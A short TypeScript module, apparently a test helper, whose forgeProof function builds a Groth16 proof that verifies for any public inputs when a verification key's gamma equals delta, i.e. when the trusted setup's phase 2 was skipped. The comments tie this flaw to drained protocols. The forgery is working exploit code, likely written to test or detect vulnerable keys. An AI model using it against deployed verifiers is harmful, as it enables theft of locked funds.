/** The proof that needs no witness: it holds under every key whose phase 2 was skipped. */
import { bn254 } from '@noble/curves/bn254'
import type { Proof } from '../../src/proof/proof'
import type { SnarkjsVerificationKey } from '../../src/proof/verification-key'

/**
 * A = alpha, B = beta, C = −L. With gamma = delta, e(L, gamma) and e(C, delta) cancel and the equation holds for any signals
 * (what emptied Veil Cash and FoomCash in 2026).
 */
export function forgeProof({ json, signals }: { json: SnarkjsVerificationKey; signals: readonly bigint[] }): Proof {
  const ic = json.IC.map(([x, y]) => bn254.G1.Point.fromAffine({ x: BigInt(x!), y: BigInt(y!) }))
  const sum = signals.reduce((acc, signal, i) => acc.add(ic[i + 1]!.multiplyUnsafe(signal)), ic[0]!)
  const { x, y } = sum.negate().toAffine()
  const [bx, by] = json.vk_beta_2
  return {
    a: [json.vk_alpha_1[0]!, json.vk_alpha_1[1]!],
    b: [
      [bx![0]!, bx![1]!],
      [by![0]!, by![1]!],
    ],
    c: [x.toString(), y.toString()],
  }
}
